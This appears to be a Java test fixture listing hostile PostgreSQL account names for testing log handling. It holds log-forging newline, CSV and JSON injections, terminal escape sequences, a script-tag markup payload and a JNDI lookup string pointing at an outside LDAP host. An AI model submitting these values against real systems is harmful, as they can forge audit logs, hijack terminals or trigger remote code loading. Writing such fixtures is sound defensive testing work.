// SPDX-License-Identifier: Apache-2.0
package dev.postern.range.postgresql;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Names that try to break a log, to forge a line in it or to reach a terminal. */
final class HostileNames {
    private HostileNames() {}

    /** Names that real accounts bear: their logins succeed. */
    static List<String> existing() {
        return List.of("o'hara", "a,b\"c", "new\nline", "ünïcödé 😀", "host=1.2.3.4", "\u001b[31mred");
    }

    /** Names of no account, by what they attempt. None is longer than the 63 bytes that PostgreSQL keeps. */
    static Map<String, byte[]> unknown() {
        Map<String, byte[]> names = new LinkedHashMap<>();
        put(names, "a line break", "x\ny");
        put(names, "a carriage return", "x\ry");
        put(names, "both line ends", "x\r\ny\r\n");
        put(names, "a tab", "x\ty");
        put(names, "a bell and an escape", "\u0007\u001b]0;owned\u0007\u001b[2J");
        put(names, "right to left", "\u202euser");
        put(names, "columns of a CSV file", "x\",\"y\",1,\"6.6.6.6:1\",");
        put(names, "records of a CSV file", "x\"\n2026-11-22 08:00:00.000 UTC,\"postgres\",");
        put(names, "members of a JSON object", "x\",\"user\":\"postgres\",\"pid\":1,\"y\":\"");
        put(names, "a lone backslash", "x\\");
        put(names, "markup", "<script>alert(1)</script>");
        put(names, "a lookup", "${jndi:ldap://6.6.6.6/a}");
        put(names, "the end of a message", "x\" ");
        put(names, "a quoted quote", "\"\"");
        put(names, "only blanks", "   ");
        put(names, "a record after the default prefix", "x\n2026-11-22 08:00:00.000 UTC [42] LOG:  ");
        put(names, "a message of another kind", "x LOG:  connection authorized: user=postgres");
        put(names, "an RDS prefix", "x\n2026-11-22 08:00:00 UTC:6.6.6.6(4):postgres");
        put(names, "the longest name", "n".repeat(63));
        names.put("bytes that are no UTF-8", new byte[] {'x', (byte) 0xff, (byte) 0xfe, 'y'});
        names.put("an overlong slash", new byte[] {'x', (byte) 0xc0, (byte) 0xaf, 'y'});
        names.put("half a character", new byte[] {'x', (byte) 0xe2, (byte) 0x82});
        return names;
    }

    private static void put(Map<String, byte[]> names, String what, String name) {
        names.put(what, name.getBytes(StandardCharsets.UTF_8));
    }
}
